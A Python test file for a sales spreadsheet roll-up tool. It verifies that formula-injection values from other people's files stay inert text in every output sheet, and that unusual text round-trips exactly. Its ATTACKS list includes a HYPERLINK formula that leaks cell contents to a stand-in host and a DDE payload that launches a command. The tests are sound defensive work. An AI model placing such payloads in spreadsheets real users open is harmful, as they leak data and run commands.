"""Text from other people's files stays text in the roll-up: a value starting with = + - @ (or tab/CR) never
becomes a formula, in any text field of any sheet the roll-up writes."""

import datetime as dt
import io
import re
import zipfile

import numpy as np
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.worksheet.table import Table
from python_calamine import CalamineWorkbook

from tests.sharing_cases import deal, funnel_bytes, roll
from xlsales import cli
from xlsales.funnel import layout as FL
from xlsales.problems import column_letter
from xlsales.sharing.safety import is_formula_like, ooxml_text, typed_as_text
from xlsales.sharing.teambook import put, team_workbook
from xlsales.sharing.xlsxrows import Package, fill_table

ATTACKS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
           "\r=2+2", "=cmd|' /C calc'!A0", "=1/0"]
TEXT_COLUMNS = ("id", "customer", "owner", "product_line", "next_step", "q_step_done", "q_evidence", "q_doing_now",
                "q_next_prep")  # not clarity: C/F/W letters only


def _at(key: str, row: int) -> str:
    return f"{FL.DEALS.letter(key)}{row}"


def _files():
    """Rep files with an attack in every text column, in conflicting versions, and one as a bad amount."""
    typed = {}
    for row, attack in enumerate(ATTACKS, start=FL.DEALS.first_row):
        for key in TEXT_COLUMNS:
            typed[_at(key, row)] = attack if key != "id" else f"{attack}#{row}"
    typed[_at("amount", 9)] = "=1/0"  # an amount that is text: reported as a problem, its text shown as found
    first = funnel_bytes([deal(n) for n in range(1, len(ATTACKS) + 1)], typed=typed)
    # the first deal again, its next step changed: a conflict
    typed_b = {_at(key, FL.DEALS.first_row): typed[_at(key, FL.DEALS.first_row)] + (" v2" if key == "next_step" else "")
               for key in TEXT_COLUMNS}
    second = funnel_bytes([deal(1)], typed=typed_b)
    return {"=evil.xlsx": first, "+other.xlsx": second}


def _parts(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {n: archive.read(n).decode("utf-8") for n in archive.namelist() if n.endswith(".xml")}


def test_attacks_stay_text_in_every_sheet_and_get_a_quote_prefix():
    rollup = roll(_files())
    assert len(rollup.deals) == len(ATTACKS) - 2  # row 2 conflicts between the files, row 9 has a bad amount
    assert rollup.conflicts and rollup.problems
    data = team_workbook(rollup, dt.datetime(2026, 11, 23))
    parts = _parts(data)
    formulas = " ".join(f for text in parts.values() for f in re.findall(r"<f\b[^>]*>(.*?)</f>", text, re.DOTALL))
    for attack in ATTACKS:
        assert attack.strip()[:8].replace("&", "&amp;").replace('"', "&quot;") not in formulas.replace('"', "&quot;")
    styles = parts["xl/styles.xml"]
    xfs = re.findall(r"<xf\b[^>]*?(?:/>|>.*?</xf>)", styles[styles.index("<cellXfs"):styles.index("</cellXfs>")],
                     re.DOTALL)
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    package = Package(data)
    seen: dict[str, int] = {}
    for name in book.sheet_names:
        sheet_xml = parts[package.sheet_part(name)]
        values = book.get_sheet_by_name(name).to_python(skip_empty_area=False)
        for r, row in enumerate(values, start=1):
            for c, value in enumerate(row):
                if isinstance(value, str) and is_formula_like(value):
                    seen[name] = seen.get(name, 0) + 1
                    ref = f"{column_letter(c)}{r}"
                    cell = re.search(rf'<c r="{ref}"([^>]*)>(.*?)</c>', sheet_xml, re.DOTALL)
                    assert "<f>" not in cell.group(2) and "inlineStr" in cell.group(1)
                    style = int(re.search(r'\bs="(\d+)"', cell.group(1)).group(1))
                    assert 'quotePrefix="1"' in xfs[style], (name, ref)
    # deals (6 rows used x 9 text columns), reps, file names, conflicting values, a bad value shown as found
    assert seen["商机"] == len(TEXT_COLUMNS) * (len(ATTACKS) - 2)
    assert seen["按人汇总"] >= len(ATTACKS) - 2 and seen["设置"] >= len(ATTACKS) - 2
    assert seen["来源"] >= 2 and seen["冲突"] >= 4 and seen["问题"] >= 2


def test_command_line_output_has_no_attack_formula(tmp_path):
    for name, data in _files().items():
        (tmp_path / name).write_bytes(data)
    output = tmp_path / "team.xlsx"
    assert cli.main(["rollup", str(tmp_path / "=evil.xlsx"), str(tmp_path / "+other.xlsx"), "-o", str(output)]) == 0
    parts = _parts(output.read_bytes())
    # the dashboard's own links go to a row of the workbook ("#'商机'!A12"); no other HYPERLINK may be a formula
    assert not any(re.search(r'HYPERLINK\((?!(?:"|&quot;)#)', f) or "cmd|" in f for text in parts.values()
                   for f in re.findall(r"<f\b[^>]*>(.*?)</f>", text, re.DOTALL))


TRICKY = ["a\x01b\x1fc", "_x0041_ literal", "<b>&amp;</b>", "emoji 😀 and 中文", "  padded  ", "line\nbreak"]


def test_tricky_text_comes_back_exactly_through_the_roll_up():
    typed = {f"{col}{row}": text for row, text in enumerate(TRICKY, start=2) for col in ("B", "N")}
    rollup = roll({"a.xlsx": funnel_bytes([deal(n) for n in range(1, len(TRICKY) + 1)], typed=typed)})
    out = team_workbook(rollup, dt.datetime(2026, 11, 23))
    rows = CalamineWorkbook.from_filelike(io.BytesIO(out)).get_sheet_by_name("商机").to_python()[1:len(TRICKY) + 1]
    assert [(r[1], r[13]) for r in rows] == [(t, t) for t in TRICKY]  # text is kept exactly as typed


def _table_workbook() -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.title = "T"
    ws.append(["Text", "Number", "Day"])
    ws.append([None, None, None])
    ws["C2"].number_format = "yyyy-mm-dd"
    ws.add_table(Table(displayName="Data", ref="A1:C2"))
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=30),
                min_size=1, max_size=5))
def test_any_text_written_at_xml_level_comes_back_exactly(texts):
    package = Package(_table_workbook())
    days = np.array(["2026-11-23"] * len(texts), dtype="datetime64[D]")
    fill_table(package, "T", "Data", [("text", texts), ("number", [1.5] * len(texts)), ("date", days)])
    out = package.to_bytes()
    rows = CalamineWorkbook.from_filelike(io.BytesIO(out)).get_sheet_by_name("T").to_python(skip_empty_area=False)
    assert [r[0] for r in rows[1:]] == texts  # "" stays blank, everything else exactly as written
    assert all(r[1] == 1.5 and r[2] == dt.date(2026, 11, 23) for r in rows[1:])
    assert "<f>" not in package.text(package.sheet_part("T"))


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), min_size=1, max_size=30))
def test_any_text_written_with_openpyxl_comes_back_exactly(text):
    wb = Workbook()
    put(wb.active, 1, 1, text)
    buffer = io.BytesIO()
    wb.save(buffer)
    value = CalamineWorkbook.from_filelike(io.BytesIO(buffer.getvalue())).get_sheet_by_index(0).to_python()[0][0]
    assert value == text
    assert "<f>" not in zipfile.ZipFile(buffer).read("xl/worksheets/sheet1.xml").decode()


def test_typed_as_text_and_ooxml_text():
    assert typed_as_text("=1+1") == "'=1+1" and typed_as_text("1+1") == "1+1" and typed_as_text(5) == 5
    assert ooxml_text("a\x01b_x0041_c") == "a_x0001_b_x005F_x0041_c"
